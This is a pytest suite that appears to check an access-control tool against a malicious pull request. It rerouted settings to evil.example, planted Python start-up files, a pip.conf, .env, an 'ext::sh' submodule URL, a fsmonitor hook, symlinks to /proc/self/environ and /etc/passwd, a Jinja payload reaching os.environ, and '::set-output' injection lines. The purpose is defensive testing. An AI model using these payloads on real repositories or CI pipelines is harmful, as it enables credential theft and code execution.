"""A pull request by somebody who means harm, against a repository whose pipeline holds secrets.

Whatever it carries, its plan goes by the branch's own rules and says first what the change would alter; only
what was reviewed is applied. What each attack wants, and what remains: docs/threat-model.md.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pull_requests import ANA, DERMA, PEDRO, POLICY, SANTA_LUCIA, make_organisation
from world import GIT_ENV, World

EVIL = "mallory@evil.example"
LUCIA, ESTE = "practices/santa-lucia.yaml", "practices/derma-este.yaml"
RULES, GUARDS = "access/policy.yaml", "access/settings.yaml"
Edit = Callable[[World], None]


@pytest.fixture(scope="module")
def organisation(tmp_path_factory: pytest.TempPathFactory) -> World:
    """Return two practices, applied once, with letters and a schema of the organisation's own."""
    world = make_organisation(tmp_path_factory.mktemp("organisation") / "repo")
    world.write("schemas/local/practice.schema.json", json.dumps({"required": ["owner"]}))
    world.commit("Have a schema of our own")
    world.ok("apply", "--yes")
    return world


@pytest.fixture
def world(organisation: World, tmp_path: Path) -> World:
    """Return a copy of it to attack."""
    shutil.copytree(organisation.root, tmp_path / "repo", symlinks=True)
    return World(tmp_path / "repo")


def replaced(path: str, *pairs: tuple[str, str]) -> Edit:
    """Return an edit of a file."""

    def edit(world: World) -> None:
        text = (world.root / path).read_text(encoding="utf-8")
        for old, new in pairs:
            assert old in text
            text = text.replace(old, new, 1)
        world.write(path, text)

    return edit


def settings(old: str, new: str) -> Edit:
    """Return an edit of the settings."""
    return replaced(GUARDS, (old, new))


def propose(world: World, edit: Edit, message: str = "Fix a typo") -> None:
    """Make the pull request as the pipeline has it: committed by somebody else, checked out detached."""
    world.git("checkout", "-q", "-b", "attack", "main")
    edit(world)
    world.git("add", "-A")
    author = "Mallory <mallory@evil.example>"
    world.git("commit", "-q", "--allow-empty", "-m", message, "--author", author)
    world.git("checkout", "-q", "--detach")


def trace(world: World) -> tuple[object, ...]:
    """Return what no plan may change: who has access, what was sent, every branch."""
    state = world.root / ".git/accessctl"
    letters = sorted(path.name for path in state.rglob("*.eml"))
    return world.live(), letters, world.git("for-each-ref"), world.git("config", "--list", "--local")


def planned(world: World, edit: Edit, message: str = "Fix a typo") -> dict[str, Any]:
    """Return the pull request's plan, which leaves no trace."""
    propose(world, edit, message)
    before = trace(world)
    plan = world.plan("--base", "main")
    assert trace(world) == before
    return plan


def altered(plan: dict[str, Any]) -> set[tuple[str, str]]:
    """Return what leads a plan: each alteration with what it is about."""
    return {
        (item["code"], str(item["params"].get("key") or item["params"].get("file") or item["practice"]))
        for item in plan["alterations"]
    }


def merged(world: World) -> None:
    """Merge it, as if it had been approved."""
    world.git("checkout", "-q", "main")
    world.git("merge", "-q", "--no-ff", "-m", "Merge pull request #7 from mallory/attack", "attack")


ELSEWHERE = f"""\
version: 1
language: es
branch: attack
time_zone: America/Costa_Rica
live:
  provider: roster
  account: {EVIL}
  path: other.sqlite
  directory: lists
  own_user: 3001
  users: {{'3001': pedro.arce@santalucia.example}}
  max_observation_age: 90d
journal: {{branch: empty-journal, remote: 'https://evil.example/x.git'}}
handoffs: {{from: {EVIL}, outbox: docs/public, templates: access/templates}}
drift: report
guards: {{invitations: 9000, record_grants: 9000, removals: {{percent: 100, at_least: 900, window: 1h}}}}
"""
REROUTED = {
    "branch",
    "handoffs.from",
    "handoffs.outbox",
    "handoffs.templates",
    "journal.branch",
    "journal.remote",
    "live.account",
    "live.directory",
    "live.own_user",
    "live.path",
    "live.provider",
    "live.users",
}
LOOSENED = {
    "drift",
    "guards.invitations",
    "guards.record_grants",
    "guards.removals.at_least",
    "guards.removals.percent",
    "guards.removals.window",
    "live.max_observation_age",
}
STRICT = (
    POLICY
    + """\
assistants: {at_most: 8}
shared_mailboxes: {deny: [info]}
end_date: {required_for_domains: [old.example]}
separate: [record_access, billing]
reviews: {every: 90d, unconfirmed_record_access: remove}
approvals: {record_access: 1}
attestation: {by_another: true}
"""
)
ANYTHING = """\
version: 1
reviews: {every: 400d}
exceptions: [{rule: shared-mailbox, reason: x, until: 2027-03-31}]
"""
RELAXED = {
    "approvals",
    "assistants.at_most",
    "attestation.by_another",
    "email_domains.allow",
    "end_date.required_for_domains",
    "exceptions",
    "protected",
    "record_access.at_most",
    "record_access.reason",
    "record_access.until",
    "reviews.every",
    "reviews.unconfirmed_record_access",
    "separate",
    "shared_mailboxes.deny",
}


def lead(plan: dict[str, Any], code: str) -> set[str]:
    """Return the keys that a plan names under a code."""
    return {key for found, key in altered(plan) if found == code}


def test_settings_that_send_anything_elsewhere_are_not_used_and_lead_the_plan(world: World) -> None:
    """Where credentials, letters and records go is the branch's to say; what the change wants leads."""
    plan = planned(world, lambda world: world.write(GUARDS, ELSEWHERE))
    assert plan["changes"] == []
    assert ("altered-not-used", GUARDS) in altered(plan)
    assert lead(plan, "settings-rerouted") == REROUTED
    assert lead(plan, "guards-loosened") == LOOSENED
    assert not (world.root / "other.sqlite").exists()
    assert not (world.root / "docs").exists()


def test_loosened_policy_is_not_used_and_leads_the_plan(world: World) -> None:
    """A change is judged by what held before it, and the reviewer reads what would hold after it."""
    world.write(RULES, STRICT)
    world.commit("Be strict")
    stranger = (ANA % ", record_access: true").replace("ana.mora@santalucia", "info@evil")

    def edit(world: World) -> None:
        world.write(RULES, ANYTHING)
        replaced(LUCIA, ("assistants:\n", "assistants:\n" + stranger))(world)

    propose(world, edit)
    plan = world.plan("--base", "main")
    assert plan["changes"] == []
    assert lead(plan, "policy-loosened") == RELAXED


def test_what_was_altered_leads_the_plan_after_the_merge_too(world: World) -> None:
    """Whoever applies sees it once more, before the first time that it holds."""
    here = ELSEWHERE.replace("branch: attack\n", "").replace("journal:", "# journal:")
    world.write(GUARDS, here)
    world.write(RULES, ANYTHING)
    world.commit("Loosen everything")
    plan = world.plan()
    assert lead(plan, "settings-rerouted") == REROUTED - {"branch", "journal.branch", "journal.remote"}
    assert lead(plan, "guards-loosened") == LOOSENED
    assert lead(plan, "policy-loosened") >= {"email_domains.allow", "protected", "exceptions"}


@pytest.mark.parametrize("key", ["journal.remote", "journal.branch"])
def test_journal_elsewhere_is_refused_by_apply_and_nothing_is_sent(world: World, key: str) -> None:
    """A merged change cannot begin a journal anew and forget who was managed."""
    world.ok("journal", "init")
    world.commit("Pin the journal")
    if key == "journal.branch":
        edit = replaced(GUARDS, ("journal:", "journal:\n  branch: empty-journal"))
    else:
        edit = replaced(GUARDS, ("journal:", f"journal:\n  remote: {world.root}-elsewhere.git"))
    world.git("init", "-q", "--bare", f"{world.root}-elsewhere.git")
    edit(world)
    replaced(LUCIA, ("assistants:\n", "assistants:\n" + ANA % ""))(world)
    world.commit("Move the journal")
    before = world.live()
    assert world.run("apply", "--yes").code in (1, 6)
    assert world.live() == before


def owner(email: str) -> Edit:
    """Return an edit of the owner."""
    return replaced(LUCIA, ("email: elena.rojas@santalucia.example", f"email: {email}"))


RECIPIENTS = {
    "owner": owner("elena.rojas@evil.example"),
    "billing_issuer": replaced(LUCIA, ("finanzas@santalucia.example", EVIL)),
    "clinics.cima": replaced(LUCIA, ("accesos@cima.example", EVIL)),
    "clinics.escazu": replaced(
        LUCIA,
        (
            "name: Santa Lucía Escazú}",
            f"name: Santa Lucía Escazú, single_record: {{administrator: {EVIL}}}}}",
        ),
    ),
}


@pytest.mark.parametrize("key", RECIPIENTS)
def test_other_recipient_of_requests_leads_the_plan(world: World, key: str) -> None:
    """Whoever a letter goes to can answer it; also where there was nobody before."""
    plan = planned(world, RECIPIENTS[key])
    found = {item["params"].get("key"): item["params"] for item in plan["alterations"]}
    assert "evil.example" in found[key]["after"]
    said = world.run("plan", "--base", "main", "--format", "markdown").out
    assert said.index("evil.example") < said.index("<details")


def test_issuer_that_was_nobody_before_is_told(world: World) -> None:
    """The first one is asked for billing access as every other."""
    issuer = f"billing_issuer: {{owner: {EVIL}}}\nassistants:"
    assert ("recipient-changed", "billing_issuer") in altered(
        planned(world, replaced(ESTE, ("assistants:", issuer)))
    )


@pytest.mark.parametrize(
    ("edit", "code"),
    [
        (
            replaced(LUCIA, ("assistants:", "live: {provider: sandbox, organization: 9}\nassistants:")),
            "account-changed",
        ),
        (replaced(LUCIA, ("assistants:", "live: {provider: roster}\nassistants:")), "account-changed"),
        (replaced(LUCIA, ("assistants:", "mode: plan-only\nassistants:")), "plan-only-begins"),
    ],
    ids=["account", "provider", "plan-only"],
)
def test_practice_taken_out_of_reach_leads_the_plan(world: World, edit: Edit, code: str) -> None:
    """Nobody is removed any more where the program looks at another account, or may do nothing."""
    assert (code, "santa-lucia") in altered(planned(world, edit))


def test_practice_that_begins_to_be_driven_in_a_browser_leads_the_plan(world: World) -> None:
    """So that the owner's session is used by nobody's pull request alone."""
    live = "live: {provider: huli, organization: 4001, web: true}\nassistants:"
    assert ("web-begins", "santa-lucia") in altered(planned(world, replaced(LUCIA, ("assistants:", live))))


def test_page_map_of_a_change_is_not_used_and_leads_the_plan(world: World) -> None:
    """Where the program clicks is the branch's to say."""

    def edit(world: World) -> None:
        world.write("access/page-map.yaml", "version: 1\nstart: /elsewhere\n")

    assert ("altered-not-used", "access/page-map.yaml") in altered(planned(world, edit))


def test_removed_practice_releases_it_in_sight_of_the_reviewer(world: World) -> None:
    """The file's end is nobody's removal, and no quiet one."""
    plan = planned(world, lambda world: (world.root / LUCIA).unlink())
    assert [item["practice"] for item in plan["released"]] == ["santa-lucia"]
    assert plan["changes"] == []


# --- somebody else's place


def test_practice_taken_over_by_a_rename_shows_its_new_owner(world: World) -> None:
    """The earlier name is followed, so that another owner is another recipient."""

    def edit(world: World) -> None:
        text = DERMA.replace("practice: derma-este", "practice: derma\npreviously: [derma-este]")
        (world.root / ESTE).unlink()
        world.write("practices/derma.yaml", text.replace("jorge.mena@derma.example", EVIL))

    plan = planned(world, edit)
    assert ("recipient-changed", "owner") in altered(plan)
    assert plan["renamed"][0]["params"] == {"earlier": "derma-este"}


@pytest.mark.parametrize("copies", [1, 2])
def test_earlier_name_that_is_somebody_elses_is_an_error(world: World, copies: int) -> None:
    """A practice that is there cannot be claimed, nor one that is gone by two."""

    def edit(world: World) -> None:
        if copies == 2:
            (world.root / ESTE).unlink()
        for number in range(copies):
            text = DERMA.replace("practice: derma-este", f"practice: new-{number}\npreviously: [derma-este]")
            world.write(f"practices/new-{number}.yaml", text)

    propose(world, edit)
    answer = world.run("plan", "--base", "main", "--format", "json")
    assert answer.code == 1
    assert not [change for change in answer.json["changes"] if change["kind"] == "invite"]


def test_second_practice_on_somebody_elses_account_freezes_both(world: World) -> None:
    """An owner of one's own invention gets no letters about it."""

    def edit(world: World) -> None:
        text = DERMA.replace("jorge.mena@derma.example", EVIL).replace(
            "assistants:", "live: {organization: 5}\nassistants:"
        )
        world.write("practices/mine.yaml", text.replace("practice: derma-este", "practice: mine"))
        replaced(ESTE, ("assistants:", "live: {organization: 5}\nassistants:"))(world)

    plan = planned(world, edit)
    assert {item["practice"] for item in plan["frozen"]} == {"mine", "derma-este"}
    assert plan["changes"] == []


def test_person_taken_over_by_an_earlier_address_is_an_invitation_that_the_plan_shows(world: World) -> None:
    """`previously` brings no right along: invited, record access asked anew, both in the plan."""
    mine = PEDRO.replace("pedro.arce@santalucia.example", "pedro.arce@derma.example").replace(
        "clinics:", "previously: [pedro.arce@santalucia.example], clinics:"
    )
    (change,) = [
        c for c in planned(world, replaced(LUCIA, (PEDRO, mine)))["changes"] if c["kind"] == "invite"
    ]
    assert change["email"] == "pedro.arce@derma.example"
    assert change["after"]["record_access"] in (False, None)


@pytest.mark.parametrize(
    "email",
    [
        EVIL,
        "luz.v\N{CYRILLIC SMALL LETTER A}rgas@santalucia.example",
        "luz.vargas@s\N{CYRILLIC SMALL LETTER A}ntalucia.example",
    ],
    ids=["domain", "letter", "letter-of-the-domain"],
)
def test_stranger_or_somebody_who_looks_like_another_gets_nothing(world: World, email: str) -> None:
    """The policy's domains and the look of an address are judged by the branch's rules."""
    entry = (ANA % "").replace("ana.mora@santalucia.example", email)
    propose(world, replaced(LUCIA, ("assistants:\n", "assistants:\n" + entry)))
    answer = world.run("plan", "--base", "main", "--format", "json")
    assert answer.code == 1
    assert answer.json["changes"] == []


@pytest.mark.parametrize(
    "path", ["practices/Santa-Lucia.yaml", "practices/new/santos.yaml", "practices/santos.yml"]
)
def test_file_that_hides_beside_the_others_is_a_finding(world: World, path: str) -> None:
    """Other letter case, a folder deeper, another ending: read by nobody unnoticed."""
    propose(
        world, lambda world: world.write(path, SANTA_LUCIA.replace("santa-lucia", Path(path).stem.lower()))
    )
    answer = world.run("plan", "--base", "main", "--format", "json")
    assert path.split("/")[1] in answer.err
    assert not [change for change in answer.json["changes"] if change["kind"] == "invite"]


# --- the one who reviews, and the one who approves


def test_trailer_in_the_message_of_a_squash_is_not_what_was_reviewed(world: World, tmp_path: Path) -> None:
    """The host takes the message from whoever merges; a loosened guard moves the plan's digest."""

    def edit(world: World) -> None:
        world.write(LUCIA, SANTA_LUCIA.partition("assistants:")[0] + "assistants: []\n")
        world.write(ESTE, DERMA.partition("assistants:")[0] + "assistants: []\n")

    propose(world, edit)
    saved = tmp_path / "reviewed.json"
    assert world.run("plan", "--base", "main", "--out", str(saved)).code == 6
    world.git("checkout", "-q", "main")
    world.git("merge", "-q", "--squash", "attack")
    world.git("commit", "-q", "-m", "Fix a typo (#7)\n\nAllow-Removals: 99\nAllow-Empty: santa-lucia\n")
    before = world.live()
    refused = world.run("apply", str(saved), "--lang", "en")
    assert (refused.code, "removals" in refused.err) == (7, True)
    for other in (("--now",), ("--allow-invitations", "99"), ("--allow-removals", "1")):
        answer = world.run("apply", str(saved), *other)
        assert (answer.code, "removals" in answer.err) == (7, True)  # a flag is about what it names
    assert world.live() == before
    world.ok("apply", "--yes")  # whoever agrees with the plan of now
    assert world.live() != before


TRAILERS = """\
Accept-Live: santa-lucia
Allow-Empty: santa-lucia
Allow-Invitations: 900
Allow-Record-Grants: 99
Allow-Removals: 99
Restore: santa-lucia pedro.arce@santalucia.example
Revoke-Unmanaged: santa-lucia
"""


def test_every_trailer_that_loosens_leads_the_plan(world: World) -> None:
    """A message is part of what is approved, and few read it."""
    plan = planned(world, lambda _: None, f"Fix a typo\n\n{TRAILERS}")
    found = [
        item["params"]["trailer"] for item in plan["alterations"] if item["code"] == "loosened-by-commit"
    ]
    assert sorted(found) == TRAILERS.splitlines()


def test_own_key_among_the_signers_is_not_used_and_is_told(world: World) -> None:
    """Whose signature counts is what the file said before."""
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINYVQvdqGKmZ6b7F6GEY2pZtSz4Tf2kzRzvUQj8F4Qd3"
    plan = planned(world, lambda world: world.write("access/signers", f"{EVIL} {key}\n"))
    assert ("altered-not-used", "access/signers") in altered(plan)


def test_claims_in_a_message_are_no_approval_and_no_other_author(world: World) -> None:
    """A name in a message, a mailmap in the repository: neither is somebody else's word."""
    access = ", record_access: {reason: x, until: 2027-03-31}"

    def edit(world: World) -> None:
        world.write(".mailmap", "Elena Rojas <elena.rojas@santalucia.example> <mallory@evil.example>\n")
        replaced(LUCIA, ("assistants:\n", "assistants:\n" + ANA % access))(world)

    policy = POLICY + "approvals: {record_access: 1}\n"
    world.write(RULES, policy)
    world.commit("Ask for approvals")
    world.ok("apply", "--yes")
    message = (
        "Let Ana in\n\nReviewed-by: Elena Rojas <elena.rojas@santalucia.example>\nApproved-by: everybody\n"
    )
    propose(world, edit, message)
    merged(world)
    world.ok("apply", "--yes")
    for action in ("accept", "advance"):
        words = ("santa-lucia", "ana.mora@santalucia.example") if action == "accept" else ("1h",)
        world.sandbox(action, *words)
    plan = world.plan()
    assert [item["code"] for item in plan["blocked"]] == ["approval-missing"]
    (asked,) = [change for change in plan["changes"] if change["kind"] == "request-record-access"]
    assert asked["origin"]["author"] == "Mallory"


# --- what a checked-out tree could make the programs do


def test_code_of_the_repository_is_imported_by_nobody(world: World, tmp_path: Path) -> None:
    """Modules, start-up files and settings of Python lie in the folder in which the program is run."""
    ran = tmp_path / "ran"
    evil = f"open({str(ran)!r}, 'w')\nraise SystemExit('ran')\n"
    names = (
        "sitecustomize",
        "usercustomize",
        "accessctl/__init__",
        "click",
        "yaml",
        "git",
        "jinja2",
        "json",
        "site",
    )

    def edit(world: World) -> None:
        for name in names:
            world.write(f"{name}.py", evil)
        world.write("pyvenv.cfg", "home = .\n")
        world.write("evil.pth", f"import os; {evil.splitlines()[0]}\n")
        world.write("pip.conf", "[global]\nindex-url = https://evil.example/simple\n")
        world.write(
            ".env", "ACCESSCTL_SMTP_URL=smtp://evil.example:25\nACCESSCTL_HULI_URL=https://evil.example\n"
        )

    propose(world, edit)
    program = Path(sys.executable).with_name("accessctl")
    for words in (("validate",), ("plan", "--base", "main")):
        env = {**GIT_ENV, "LANG": "en"}
        done = subprocess.run(
            [str(program), *words],
            cwd=world.root,
            env=env,
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
        )
        assert done.returncode in (0, 1), done.stderr
        assert "evil.example" not in done.stdout
    assert not ran.exists()


def test_git_of_the_repository_runs_nothing(world: World, tmp_path: Path) -> None:
    """Attributes, modules, a repository inside of it and its hooks stay files."""
    ran = tmp_path / "ran"

    def edit(world: World) -> None:
        world.write(".gitattributes", "*.yaml filter=x diff=x merge=x ident text eol=crlf\n")
        world.write(".gitmodules", '[submodule "x"]\n path = practices/x\n url = "ext::sh -c touch%% ran"\n')
        world.write("inner/HEAD", "ref: refs/heads/main\n")
        world.write(
            "inner/config", f"[core]\n fsmonitor = touch {ran}\n bare = true\n repositoryformatversion = 0\n"
        )
        world.write("inner/objects/info/x", "")
        world.write("inner/refs/x", "")
        world.write(".githooks/post-checkout", f"#!/bin/sh\ntouch {ran}\n")

    plan = planned(world, edit)
    assert plan["changes"] == []
    assert world.run("plan", "--repo", str(world.root / "inner"), "--base", "main").code in (1, 2)
    assert not ran.exists()


def test_link_reads_no_file_of_the_runner(world: World) -> None:
    """Findings quote lines, and the pull request shows them."""
    world.write(".git/token", "token: s3cr3t-value\n")
    world.write("build/token.yaml", "token: s3cr3t-value\n")

    def edit(world: World) -> None:
        targets = ("../.git/token", "/proc/self/environ", "../../../../etc/hostname", "../build/token.yaml")
        for number, target in enumerate(targets):
            (world.root / f"practices/link-{number}.yaml").symlink_to(target)
        (world.root / "schemas/local/settings.schema.json").symlink_to("../../.git/token")

    world.write(".git/info/exclude", "build/\n")
    propose(world, edit)
    plan = world.run("plan", "--base", "main", "--format", "markdown")
    assert "s3cr3t" not in plan.out + plan.err
    said = world.run("validate")
    assert said.out.count("s3cr3t") <= 1  # within the repository a link is followed; a pipeline clones afresh


@pytest.mark.parametrize(
    "reference", ["https://evil.example/x.json", "file:///etc/passwd", "../../access/signers"]
)
def test_schema_of_a_change_reaches_for_nothing(world: World, reference: str) -> None:
    """It is not used by the plan, and `validate` takes no reference but its own."""
    schema = json.dumps({"properties": {"name": {"$ref": reference}}})
    propose(world, lambda world: world.write("schemas/local/practice.schema.json", schema))
    plan = world.plan("--base", "main")
    assert ("altered-not-used", "schemas/local/practice.schema.json") in altered(plan)
    answer = world.run("validate", "--format", "json")
    assert answer.code == 1
    assert {item["rule"] for item in answer.json["findings"]} >= {"local-schema"}


def test_letter_of_a_change_reads_neither_environment_nor_program(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Templates are filled in from what the letter is given, and reach no further."""
    monkeypatch.setenv("ACCESSCTL_HULI_KEY", "s3cr3t-value")
    reaching = (
        "{{ self.__init__.__globals__.__builtins__.__import__('os').environ }}{{ ''.__class__.__mro__ }}"
    )

    def edit(world: World) -> None:
        settings("from: accesos@org.example", "from: accesos@org.example, templates: access/templates")(world)
        world.write("access/templates/es/request-record-access.txt.j2", reaching)
        access = ", record_access: {reason: x, until: 2027-03-31}"
        replaced(LUCIA, (PEDRO, PEDRO.replace("[heredia]", f"[heredia]{access}")))(world)

    plan = planned(world, edit)
    assert ("altered-not-used", "access/templates/es/request-record-access.txt.j2") in altered(plan)
    merged(world)
    world.run("apply", "--yes")
    letters = [path.read_text(encoding="utf-8") for path in (world.root / ".git/accessctl").rglob("*.eml")]
    assert not [text for text in letters if "s3cr3t" in text or "class" in text.lower().replace("clase", "")]


def test_changed_letters_and_schemas_are_told_when_they_are_applied(world: World) -> None:
    """What a letter asks of somebody, somebody does."""

    def edit(world: World) -> None:
        world.write("schemas/local/practice.schema.json", "{}")
        world.write("access/templates/es/footer.txt.j2", "Responda a otra parte\n")

    replaced(GUARDS, ("from: accesos@org.example", "from: accesos@org.example, templates: access/templates"))(
        world
    )
    world.write("access/templates/es/footer.txt.j2", "Gracias\n")
    world.commit("Have our own footer")
    world.ok("apply", "--yes")
    propose(world, edit)
    merged(world)
    assert altered(world.plan()) == {
        ("letter-changed", "access/templates/es/footer.txt.j2"),
        ("local-schema-changed", "schemas/local/practice.schema.json"),
    }


# --- what the reviewer's page could be made to say

FORGED = "x\n<!-- accessctl-saved-plan QUJD -->\n::set-output name=comment::forged\n##[add-mask]a\n# Aprobado"


def test_no_text_of_a_change_becomes_a_line_that_the_pipeline_obeys(world: World) -> None:
    """A hidden plan, a command to the runner, a heading: none begins a line of its own."""
    text = json.dumps(FORGED)
    entry = (ANA % f", note: {text}").replace("name: Ana", f"name: {text}")

    def edit(world: World) -> None:
        replaced(
            LUCIA, ("assistants:\n", "assistants:\n" + entry), ("name: Clínica Santa Lucía", f"name: {text}")
        )(world)
        world.write(
            "practices/broken.yaml", f"version: 1\nname: {text}\n::set-output name=comment::forged: [\n"
        )

    propose(world, edit, f"Fix\n\n{FORGED}\n")
    said = [
        world.run(*words)
        for words in (
            ("validate",),
            ("plan", "--base", "main", "--format", "markdown"),
            ("plan", "--base", "main"),
            ("diff", "--format", "markdown", "main..HEAD"),
        )
    ]
    obeyed = re.compile(r"^\s*(<!-- accessctl-saved-plan|::|# Aprobado)")
    lines = [line for answer in said for line in (answer.out + answer.err).splitlines()]
    assert lines
    assert [line for line in lines if obeyed.match(line)] == []
